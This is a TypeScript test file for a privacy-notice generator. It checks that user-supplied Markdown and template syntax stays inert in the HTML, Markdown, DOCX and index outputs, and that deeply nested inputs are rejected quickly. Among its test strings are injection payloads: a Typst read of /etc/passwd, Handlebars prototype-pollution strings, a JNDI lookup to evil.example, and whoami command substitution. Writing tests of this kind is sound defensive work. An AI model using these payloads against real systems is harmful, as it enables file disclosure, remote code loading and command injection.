/** Markdown that wants out of the place it stands in, and the languages of templates: words, in every format. */
import { describe, expect, test } from 'vitest'
import { compiled, noticesOf } from '../escaping/compiled.ts'
import {
  type Printed,
  printedDocx,
  printedFragment,
  printedHtml,
  printedIndex,
  printedMarkdown,
} from '../escaping/printed.ts'
import { activeParts } from '../escaping/skeleton.ts'
import { elements, textOf } from '../render/read-back.ts'
import { foundInBytes } from './judged-text.ts'

/** What each begins, and does not end, must not go on into what comes after it. */
const OPEN: readonly string[] = [
  '```\nkoodi',
  '~~~ html\nkoodi',
  '    sisennetty koodi',
  '`koodi',
  '> lainaus\n> > syvempi',
  '- kohta\n  - syvempi\n\n      koodi',
  '1. kohta\n999999999. kohta',
  '| a | b |\n|---|---|\n| c \\| d | e `|` f |',
  '| a |\n|---',
  'otsikko\n===',
  'otsikko\n---',
  '# otsikko',
  '###### otsikko ######',
  '---\nid: muu\n---',
  'sana\n\n***',
  'sana\n\n[viite]: https://viite.example "nimi"',
  '[viite]\n\n[viite]: https://viite.example',
  'sana\n\n[^ viite]: alaviite',
  '**lihava',
  '*vino **lihava*',
  '~~poistettu',
  '[linkki](https://linkki.example',
  '[linkki](<https://linkki.example',
  '![kuva](https://kuva.example/a.png)',
  '[ ] tehtävä\n- [x] tehty',
  'rivi  \nrivi\\\nrivi\\',
  '\\',
  '\\\\`',
  'a | b || c |',
  '&lt;b&gt; &#60;script&#62; &lt!-- &#x3c;/p&#x3e;',
  '--> ]]> ?> <% %> <?',
  '$$ x $$ \\( y \\)',
  ':::danger\nlaatikko\n:::',
  '{% raw %} {{ title }} {{{ style }}} {{#each sections}}',
  '{{> partials/head}} {{!-- --}} {{constructor.constructor "return 1"}} {{lookup this "__proto__"}}',
  '#read("/etc/passwd") #import "@preview/x:1.0.0": y #panic("z") #let a = 1',
  '$ sum_(i=1)^n i $ @viite <1> = otsikko // huomautus /* huomautus */ #[a]',
  '#{ } #set page(width: 1pt) #show: it => [] #eval("1")',
  '${jndi:ldap://evil.example/a} `whoami` $(whoami) %0a%0d',
]

const after = 'Tämä seuraa, eikä ole koodia, linkki eikä otsikko.'

/** Where the words that come after stand: the elements around them. */
function placeOf(tree: Printed['tree'], words: string): string[] {
  const holders = ['code', 'pre', 'a', 'h1', 'blockquote', 'del', 'em', 'strong'].flatMap((name) =>
    elements(tree, name),
  )
  return holders.filter((holder) => textOf(holder).includes(words)).map(({ tagName }) => tagName)
}

/** Packing takes its time: a document of a word processor is made of some only. */
async function printed(text: string, isPacked = true): Promise<readonly Printed[]> {
  const [notice] = noticesOf(
    compiled({
      document: { introduction: text },
      register: { name: 'Rekisteri' },
      purposes: [
        { id: 'a', name: 'Eka', description: text, basis: 'contract' },
        { id: 'b', name: after, description: after, basis: 'contract' },
      ],
      data: [{ id: 'd', name: text, items: [text, after], for: ['a'] }],
      extraSections: [
        { id: 'e', heading: text.replaceAll('\n', ' '), text },
        { id: 'f', heading: 'Muuta', text: after },
      ],
    }),
  )
  if (notice === undefined) throw new Error('no notice')
  const pages = [
    printedHtml(notice),
    printedMarkdown(notice),
    printedFragment(notice),
    await printedIndex(notice),
  ]
  return isPacked ? [...pages, await printedDocx(notice)] : pages
}

describe('a text', () => {
  let calm: readonly Printed[] | undefined
  test.each(OPEN.map((text, at) => [at, text] as const))('%i: %j', async (at, text) => {
    calm ??= await printed('rauhallinen teksti')
    for (const [which, { format, tree, faults }] of (await printed(text, at % 5 === 0)).entries()) {
      expect(faults, format).toEqual([])
      expect(activeParts(tree), format).toEqual([])
      expect(placeOf(tree, after), format).toEqual(placeOf(calm[which]?.tree ?? tree, after))
      const before = calm[which]?.tree
      // Headings and links of the rest are as they were; the text may have some of its own.
      for (const name of ['h1', 'h2', 'section', 'nav', 'footer', 'main']) {
        const shown = (root: Printed['tree']) =>
          elements(root, name).map((element) => (name === 'h1' || name === 'h2' ? textOf(element) : name))
        const own =
          before === undefined ? [] : shown(before).filter((words) => !words.includes('rauhallinen'))
        expect(shown(tree), `${format} ${name}`).toEqual(expect.arrayContaining(own))
        if (format !== 'md' && !name.startsWith('h'))
          expect(shown(tree).length, `${format} ${name}`).toBe(shown(before ?? tree).length)
      }
    }
  })

  test('the words of templates and sheets come out as they are', async () => {
    const words = OPEN.slice(-7, -1)
      .join(' ¶ ')
      .replace(/[*_`[\]<>\\{}#|~]/g, '\\$&')
    const plain = words.replace(/\\([*_`[\]<>\\{}#|~])/g, '$1').replace(/\s+/g, ' ')
    for (const { format, text } of await printed(words))
      if (format !== 'index') expect(text.replace(/\s+/g, ' '), format).toContain(plain.slice(0, 200))
  })
})

describe('texts without end', () => {
  const many = 30_000
  test.each([
    ['quotes', '>'.repeat(many), 'levels'],
    ['quotes with blanks', '> '.repeat(many), 'levels'],
    ['lists', '- '.repeat(many), 'levels'],
    ['numbered lists', '1. '.repeat(many), 'levels'],
    ['quotes and lists', '> - '.repeat(many), 'levels'],
    [
      'lists ever deeper',
      Array.from({ length: 300 }, (_, at) => `${' '.repeat(2 * at)}- a`).join('\n'),
      'levels',
    ],
    ['emphasis in emphasis', `${'*a_'.repeat(many)}b${'_a*'.repeat(many)}`, 'marks'],
    ['emphasis', '_a_ '.repeat(many), 'marks'],
    ['links in links', `${'['.repeat(many)}a${'](b)'.repeat(many)}`, 'marks'],
    ['pictures in pictures', `${'!['.repeat(many)}a${'](b)'.repeat(many)}`, 'marks'],
    ['addresses', 'www.'.repeat(many), 'marks'],
    ['comments', '<!-- '.repeat(many), 'marks'],
    ['a word', '!'.repeat(many), 'word'],
  ])('%s: an error, soon', (_name, text, what) => {
    const began = process.cpuUsage()
    const bytes = `id: a\nlanguages: [fi]\ndocument: { introduction: ${JSON.stringify(text)} }\n`
    expect(foundInBytes(bytes)).toEqual([`schema/wrong-value#text-${what}`])
    expect(process.cpuUsage(began).user).toBeLessThan(5_000_000)
  })

  test('just within the limits it is a notice like any other', async () => {
    const text = `${'> '.repeat(20)}a\n\n${'*a_'.repeat(240)}b${'_a*'.repeat(240)}\n\n- a\n  - b\n    - c`
    for (const { faults } of await printed(text)) expect(faults).toEqual([])
  })
})
